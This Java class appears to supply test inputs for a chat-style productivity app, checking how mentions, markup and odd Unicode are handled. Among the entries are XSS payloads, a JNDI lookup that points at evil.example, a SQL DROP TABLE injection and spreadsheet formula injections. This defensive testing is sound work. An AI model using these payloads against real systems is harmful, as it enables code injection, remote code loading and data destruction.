package productivity.app;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What people might type to see whether it does anything: mentions, markup, code, odd letters. */
final class HostileTexts {
  private static final List<String> ATOMS =
      List.of(
          "<!channel>",
          "<!here>",
          "<!everyone>",
          "<@U1EXAMPLE>",
          "<@U1EXAMPLE|sam>",
          "<#C1>",
          "<#C1|general>",
          "<!subteam^S1|team>",
          "<!date^1392734382^{date}|then>",
          "<https://evil.example|safe.example>",
          "<mailto:a@evil.example|us>",
          "https://evil.example/?a=1&b=2",
          "www.evil.example",
          "@channel",
          "@here",
          "@everyone",
          "#general",
          "*bold*",
          "_italic_",
          "~struck~",
          "`code`",
          "```block```",
          "> quoted",
          ">>> quoted on",
          "• bullet",
          "1. one",
          "# heading",
          "[link](https://evil.example)",
          "![image](https://evil.example/x.png)",
          ":smile:",
          ":warning::fire:",
          "&lt;!channel&gt;",
          "&amp;lt;!here&amp;gt;",
          "&#60;!channel&#62;",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "\"><svg onload=alert(1)>",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "%s %n %1$s",
          "\\u0041 \\n \\\\",
          "\"quotes\" and 'quotes'",
          "{\"type\":\"mrkdwn\"}",
          "'; DROP TABLE programme; --",
          "=1+1",
          "+1",
          "-1",
          "@SUM(A1)",
          "=HYPERLINK(\"https://evil.example\")",
          "\u202Eright to left\u202C",
          "\u2066isolated\u2069",
          "שלום עולם",
          "مرحبا بالعالم",
          "zero\u200Bwidth\u200Bspace",
          "zero\u200Djoiner",
          "\uFEFFmark",
          "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇬🇧 ✊🏽",
          "Z͑ͫ̓ͪ̂ͫ̽a͑ͫ̓ͪ̂ͫ̽l",
          "e\u0301 and é",
          "ﷺ ﬁ Ⅻ",
          "tab\there",
          "two\nlines",
          "three\n\n\nlines",
          "non\u00A0breaking");

  private HostileTexts() {}

  /** Each by itself, and between words, twice over and at the end of a long text. */
  static List<String> all() {
    List<String> texts = new ArrayList<>();
    int number = 0;
    for (String atom : ATOMS) {
      texts.add("note " + ++number + ": " + atom + ".");
      texts.add("a " + atom + atom + " z" + ++number);
      texts.add(++number + "\n" + atom + "\n" + atom + " end");
    }
    Stream.of("x", "<!channel> ", "é😀 ", "&<>\"' ", "*a*_b_ ")
        .map(part -> part.repeat(2_990 / part.length()) + "!")
        .forEach(texts::add);
    return texts;
  }
}
